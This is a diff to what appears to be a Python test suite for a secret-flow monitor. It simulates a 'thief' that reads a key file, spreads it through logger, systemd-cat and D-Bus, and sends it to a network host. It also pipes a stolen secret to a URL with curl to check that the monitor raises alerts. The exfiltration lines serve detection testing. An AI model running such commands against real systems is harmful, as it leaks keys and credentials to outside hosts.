@@ -38,7 +38,7 @@ secret = open(key, "rb").read()
 with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
     log.sendto(b"PRIORITY=6\\nMESSAGE=" + secret.replace(b"\\n", b" ") + b"\\n", journal + "/socket")
 open(left, "wb").write(secret)
-subprocess.run(["logger", "--socket", journal + "/dev-log", secret.decode()], check=True)
+subprocess.run(["logger", "--socket", journal + "/dev-log", "--", secret.decode()], check=True)
 subprocess.run(["systemd-cat", "echo", secret], check=True)
 subprocess.run(["dbus-send", "--bus=unix:path=" + bus, "/thief", "org.example.Thief.Said", "string:" + secret.decode()],
                check=True)
@@ -47,28 +47,28 @@ socket.create_connection((to, 443)).sendall(secret)
 
 # One program for all who ask, but no carrier: marked once, it would mark them all.
 SERVER = """
-import os, socketserver, sys
+import socketserver, sys
 class Echo(socketserver.StreamRequestHandler):
     def handle(self):
         self.wfile.write(self.rfile.readline())
-server = socketserver.ThreadingUnixStreamServer(sys.argv[1], Echo)
-server.serve_forever()
+socketserver.ThreadingUnixStreamServer(sys.argv[1], Echo).serve_forever()
 """
 CLIENT = """
 import socket, sys
 with socket.socket(socket.AF_UNIX) as s:
     s.connect(sys.argv[1])
     s.sendall(b"hello\\n")
-    assert s.recv(10) == b"hello\\n"
+    print(s.recv(6).decode())
 """
 
-# What is done over and over by one shell, which would be marked for good by any mark that comes its way: $1 is a
-# directory of its own, $2 the echo server's socket, $3 how to log in. Each round ends on the network.
+# What is done over and over by one shell, which reads what came of it, and would be marked for good by any mark that
+# comes its way: $1 is a directory of its own, $2 the echo server's socket, $3 how to log in. Each round ends on the
+# network.
 ROUNDS = {
-    "a compile": """make -s -j2 -C "$1" clean all""",
+    "a compile": """make -s -C "$1" clean; make -s -j2 -C "$1" """,
     "find and xargs": """find /usr/share/doc -name copyright | head -n 300 | xargs cat | sort | uniq -c | tail -n 1""",
     "the journal's writers and readers": f"""logger --socket {JOURNAL}/dev-log round; echo round | systemd-cat cat
-        journalctl --no-pager --lines=30 | grep round | cut -c 1-60 | tail -n 1 >"$1/last" """,
+        journalctl --no-pager --lines=30 | grep round | cut -c 1-60 | tail -n 1""",
     "the message bus": f"""dbus-send --bus=unix:path={BUS} --print-reply --dest=org.freedesktop.DBus / \\
         org.freedesktop.DBus.ListNames | grep -c string; dbus-send --bus=unix:path={BUS} /o org.example.Round.Done""",
     "a local server's clients": """/usr/bin/python3 -c "$CLIENT" "$2" """,
@@ -81,8 +81,8 @@ ROUNDS = {
 }
 LOOP = """n=0
 while [ -e "$RUN" ]; do
-        { ROUND
-        } >/dev/null 2>"$1/errors" || exit 1
+        said=$({ ROUND
+        } 2>"$1/errors") || exit 1
         curl -sS -o /dev/null "$URL" || exit 1
         n=$((n + 1)); echo "$n" >"$1/rounds"
 done"""
@@ -91,11 +91,12 @@ MAKEFILE = "all: a.o b.o c.o\n\tar rc all.a *.o\n%.c:\n\techo '#include <stdio.h
 
 class Discipline:
     def __init__(self, s, stack, login):
-        self.s, self.stack, self.workers, self.thieves, self.login = s, stack, {}, set(), login
+        self.s, self.stack, self.workers, self.thieves, self.login = s, stack, {}, {}, login
         self.directory = f"{s.world.root}/busy"
         self.left = f"{s.world.root}/left"
-        for directory in (self.directory, self.left):
-            os.mkdir(directory)
+        os.mkdir(self.directory)
+        os.mkdir(self.left)
+        # The rounds go on as long as it is there.
         self.go_on = f"{self.directory}/run"
         with open(self.go_on, "x", encoding="ascii"):
             pass
@@ -122,7 +123,8 @@ class Discipline:
 
     def set_up(self):
         echo = self.serve()
-        self.s.world.do("sh", "-c", "cat >/etc/cron.d/busy", stdin=f"* * * * * root curl -sS {URL} | logger\n")
+        self.s.world.do("sh", "-c", "cat >/etc/cron.d/busy",
+                        stdin=f"* * * * * root curl -sS {URL} | logger --socket {JOURNAL}/dev-log\n")
         for number, (name, round_) in enumerate(ROUNDS.items()):
             own = f"{self.directory}/{number}"
             os.mkdir(own)
@@ -151,10 +153,11 @@ class Discipline:
 
     def steal(self):
         key, content = self.s.home.key()
-        thief = self.s.net.popen(self.s.world.command("root", [
-            "/usr/bin/python3", "-c", THIEF, os.fsdecode(key), f"{self.left}/{self.s.home.count}", JOURNAL, BUS, HOST_V4]),
+        left = f"{self.left}/{len(self.thieves)}"
+        thief = self.s.net.popen(
+            self.s.world.command("root", ["/usr/bin/python3", "-c", THIEF, os.fsdecode(key), left, JOURNAL, BUS, HOST_V4]),
             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
-        self.thieves.add(thief.pid)
+        self.thieves[thief.pid] = left
         said = thief.communicate(timeout=ROUND_TIMEOUT)[1]
         require_equal((thief.returncode, said), (0, ""), "the thief")
         self.s.net.sink.wait_arrived(content)
@@ -184,17 +187,20 @@ def busy(t, d):
                 "a last round of all")
     t.note(f"{len(d.thieves)} thefts; rounds: {', '.join(f'{n} {name}' for name, n in d.rounds().items())}")
     d.require_silence()
+    os.unlink(d.go_on)
+    for worker, _ in d.workers.values():
+        worker.wait(ROUND_TIMEOUT)
+    d.require_silence()
 
 
 def followed(d):
-    """What tells a silence from a watch that follows nothing: the same thief's secret, taken from where he left it."""
-    left = f"{d.left}/{d.s.home.count}"
-    left = left if os.path.exists(left) else os.path.join(d.left, os.listdir(d.left)[0])
-    result = d.s.run(["/bin/sh", "-c", f"cat {left} | curl -sS -o /dev/null -d @- {URL}; exit 0"])
-    require_equal(result.returncode, 0, result.stderr)
+    """What tells a silence from a watch that follows nothing: a thief's secret, taken from where he left it."""
+    require(d.thieves, "nobody stole")
+    # What the server says to it is of no interest.
+    d.s.run(["/bin/sh", "-c", f"cat {next(iter(d.thieves.values()))} | curl -sS -o /dev/null -d @- {URL}"])
     alert = d.s.bw.wait_alert(lambda a: a["process"]["comm"] == "curl", "curl's")
     vias = [hop["via"] for hop in alert["files"][0]["way"]]
-    require_equal(vias[-2:], [["file"], ["pipe"]], "the way")
+    require_equal(vias[-2:], ["file", "pipe"], "the way")
 
 
 def main():
@@ -203,7 +209,6 @@ def main():
         login = " ".join(["ssh", *server.options("root"), f"root@{HOST_V4}"]) if server.process else "env"
         d = Discipline(s, stack, login)
         t.case(f"{SECONDS} s of a busy system: each theft is told, and nobody else", busy, t, d)
-        os.unlink(d.go_on)
         t.case("who reads what a thief left is told", followed, d)
         t.case("no loss", stage.whole, s.bw)
     t.done()
